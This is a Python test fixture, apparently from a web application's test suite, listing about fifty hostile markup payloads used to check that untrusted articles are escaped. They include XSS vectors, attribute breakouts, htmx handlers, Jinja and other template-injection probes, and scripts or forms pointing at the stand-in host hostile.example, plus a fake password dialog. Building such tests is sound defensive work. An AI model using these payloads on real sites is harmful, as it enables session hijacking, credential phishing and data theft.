"""Articles that would be elements, attributes, scripts, styles or templates if a page took them for its own."""

from tests.web.hostile.making import everywhere

__all__ = ["ARTICLES"]

RUN = "window.hostile=1"

PAYLOADS = {
    "script": f"<script>{RUN};alert('hostile')</script>",
    "script of elsewhere": "<script src='https://hostile.example/x.js'></script>",
    "script in mixed case": f"<ScRiPt >{RUN}</sCrIpT\t>",
    "script that is never closed": f"<script>{RUN}//",
    "ends a script": f"</script><script>{RUN}</script>",
    "ends a title": f"</title></textarea></style></noscript><script>{RUN}</script>",
    "comment": f"<!-- --><img src=x onerror={RUN}><!--",
    "comment that begins a script": "<!--<script>",
    "conditional comment": f"<!--[if true]><script>{RUN}</script><![endif]-->",
    "CDATA": f"<![CDATA[><script>{RUN}</script>]]>",
    "processing instruction": f"<?xml version='1.0'?><?php echo '{RUN}' ?>",
    "ends the attribute": f"\" onmouseover=\"{RUN}\" autofocus onfocus=\"{RUN}\" x=\"",
    "ends the other attribute": f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
    "attribute without quotes": f"x onmouseover={RUN} ",
    "backtick attribute": f"`onmouseover={RUN}`",
    "image": f"<img src=x onerror=\"{RUN}\">",
    "image of elsewhere": "<img src=https://hostile.example/pixel.png srcset='//hostile.example/2x.png 2x'>",
    "SVG": f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s><script>{RUN}</script></svg>",
    "SVG link": f"<svg><a xlink:href='javascript:{RUN}'><text y=20>here</text></a><use href='data:image/svg+xml,<svg/>#x'/></svg>",
    "MathML": f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>click</maction></math>",
    "frame": "<iframe src=https://hostile.example srcdoc='<script>parent.hostile=1</script>'></iframe>",
    "object": "<object data=https://hostile.example/x.swf></object><embed src=https://hostile.example/y>",
    "form": "<form action=https://hostile.example/><button formaction=https://hostile.example/ autofocus>Search</button></form>",
    "base": "<base href=https://hostile.example/><a href=x>here</a>",
    "meta": "<meta http-equiv=refresh content='0;url=https://hostile.example/'>",
    "link": "<link rel=stylesheet href=https://hostile.example/x.css><link rel=prefetch href=https://hostile.example/p>",
    "details": f"<details open ontoggle={RUN}><summary>more</summary></details><video><source onerror={RUN}></video>",
    "dialog": "<dialog open><h1>Log in again</h1><input name=password></dialog>",
    "headings": "</main></body></html><main><h1>Another</h1>",
    "ids of the page": "<a id=main name=live></a><div id=form_token><input name=form_token value=stolen>",
    "CSS": "</style><style>*{display:none!important;background:url(https://hostile.example/css)}</style>",
    "CSS expression": "x;background:url(//hostile.example/bg);width:expression(window.hostile=1);--x:</style>",
    "style attribute": "\" style=\"position:fixed;inset:0;background:url(https://hostile.example/s)\" x=\"",
    "Jinja": "{{ 7*7 }}{{ config }}{{ ''.__class__.__mro__ }}{% for x in range(9**9) %}{% endfor %}{# no #}",
    "other templates": "${7*7} #{7*7} <%= 7*7 %> {{{7*7}}} [[7*7]] {{constructor.constructor('window.hostile=1')()}}",
    "percent format": "%s%s%n %(secret)s {0.__class__} {settings.secret}",
    "htmx": f"<div hx-get='https://hostile.example/' hx-trigger='load' hx-on::load='{RUN}' data-hx-on:click='{RUN}'>x</div>",
    "htmx in an attribute": f"\" hx-get=\"/judgements\" hx-trigger=\"load\" hx-on:htmx:load=\"{RUN}\" data-hx-vals=\"js:{{a:{RUN}}}\" x=\"",
    "htmx partial": "<hx-partial hx-target='#main'>gone</hx-partial><template hx type='partial'>x</template>",
    "JSON in a script": f"\"}}]}};{RUN};//</script><script>{RUN}</script>\u2028{RUN}\u2029",
    "prototype": "__proto__ constructor prototype toString hasOwnProperty",
    "entities": "&lt;script&gt;&#60;img src=x onerror=window.hostile=1&#62; &amp;amp; &quot; &#x27; &nbsp; &notanentity; &#0; &#x110000;",
    "entities without end": f"&lt;img src=x onerror={RUN}&gt &#60img src=x onerror={RUN}&#62",
    "broken tags": f"<<b>b</ <p/ =<img/src=x/onerror={RUN}//<a\x0chref=x><\x00script>{RUN}</script>",
    "UTF-7 and overlong": "+ADw-script+AD4-window.hostile=1+ADw-/script+AD4- %3Cscript%3E \xc0\xbcscript\xc0\xbe",
    "fullwidth": f"＜script＞{RUN}＜/script＞ ‹img› ﹤b﹥ ʺ ʹ",
    "markdown": f"[here](javascript:{RUN}) ![x](https://hostile.example/m.png) <https://hostile.example> **bold**",
}  # fmt: skip

ARTICLES = {name: everywhere(f"markup {number}", payload) for number, (name, payload) in enumerate(PAYLOADS.items(), start=1)}
"""Articles by what they try."""
